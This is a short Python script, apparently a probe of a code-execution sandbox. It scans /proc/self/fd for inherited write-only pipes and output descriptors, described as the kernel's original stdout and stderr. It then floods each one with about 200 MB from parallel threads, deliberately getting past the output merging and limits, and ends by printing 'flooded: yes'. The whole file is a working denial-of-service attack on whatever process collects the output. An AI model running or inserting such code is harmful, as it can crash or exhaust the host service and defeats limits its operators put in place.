# Floods the pipes that the kernel's first stdout and stderr were, past all that merges and limits output.
import fcntl
import os
import threading


def pipes():
    found = {}
    for name in os.listdir("/proc/self/fd"):
        try:
            link = os.readlink(f"/proc/self/fd/{name}")
            if link.startswith("pipe:") or link.endswith("/output"):
                found.setdefault(link, []).append(int(name))
        except OSError:
            pass
    return found


def flood(descriptor):
    try:
        for _ in range(200):
            os.write(descriptor, b"x" * 1_000_000)
    except OSError:
        pass


def is_foreign(descriptors):
    """Whether the other end belongs to another process."""
    return all(fcntl.fcntl(descriptor, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY for descriptor in descriptors)


foreign = [descriptors[0] for descriptors in pipes().values() if is_foreign(descriptors)]
threads = [threading.Thread(target=flood, args=(os.dup(descriptor),)) for descriptor in foreign]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print("flooded: yes")
